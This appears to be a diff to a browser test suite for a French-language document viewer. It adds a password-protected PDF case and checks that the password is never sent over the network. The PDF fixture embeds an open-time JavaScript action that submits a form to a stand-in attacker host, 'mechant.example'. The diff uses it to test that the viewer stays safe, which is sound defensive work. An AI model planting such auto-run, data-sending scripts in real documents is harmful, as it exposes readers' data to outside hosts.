@@ -29,7 +29,7 @@ def picture() -> bytes:
     return held.getvalue()
 
 
-def pages(count: int) -> bytes:
+def pages(count: int, *, password: str = "") -> bytes:
     """With a script that a PDF runs when it is opened, where anything runs it."""
     held, book = BytesIO(), PdfWriter()
     for _ in range(count):
@@ -37,6 +37,8 @@ def pages(count: int) -> bytes:
     script = TextStringObject("app.alert(1); this.submitForm('https://mechant.example/');")
     action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script}
     book.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
+    if password:
+        book.encrypt(password, algorithm="AES-256")
     book.write(held)
     return held.getvalue()
 
@@ -198,3 +200,32 @@ def test_what_a_picture_leaves_clear_is_paper(at_the_desk: Callable[..., tuple[V
     image.evaluate("image => image.decode()")
     drawn = Image.open(BytesIO(image.screenshot())).convert("RGB")
     assert drawn.getpixel((drawn.width // 2, drawn.height // 2)) == (255, 255, 255)
+
+
+def test_a_pdf_with_a_password_asks_for_it_and_keeps_it_in_the_browser(
+    at_the_desk: Callable[..., tuple[Visitor, Desk]], demo: Demo
+) -> None:
+    name, secret = f"Bulletin {uuid.uuid4().hex[:6]}", "Tournesol-1884"
+    put(demo, name, ("Bulletin.pdf", "application/pdf", pages(2, password=secret)))
+    visitor, desk = at_the_desk()
+    page, told = visitor.page, list[str]()
+    page.on("request", lambda request: told.append(f"{request.url} {request.headers} {request.post_data}"))
+    desk.wait_for(name)
+    desk.open(name)
+    page.get_by_role("link", name="Bulletin.pdf", exact=True).click()
+    viewer = page.get_by_role("dialog")
+    field = viewer.get_by_label("Mot de passe du document")
+    expect(field).to_be_focused()
+    visitor.axe()
+    field.fill("Tournesol")
+    field.press("Enter")
+    expect(viewer.get_by_role("alert")).to_contain_text("Ce mot de passe n’ouvre pas le document")
+    expect(field).to_be_focused()
+    expect(field).to_have_value("")
+    visitor.axe()
+    field.fill(secret)
+    viewer.get_by_role("button", name="Ouvrir").click()
+    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
+    expect(viewer).to_contain_text("Page 1 sur 2")
+    assert told
+    assert not [said for said in told if "Tournesol" in said]
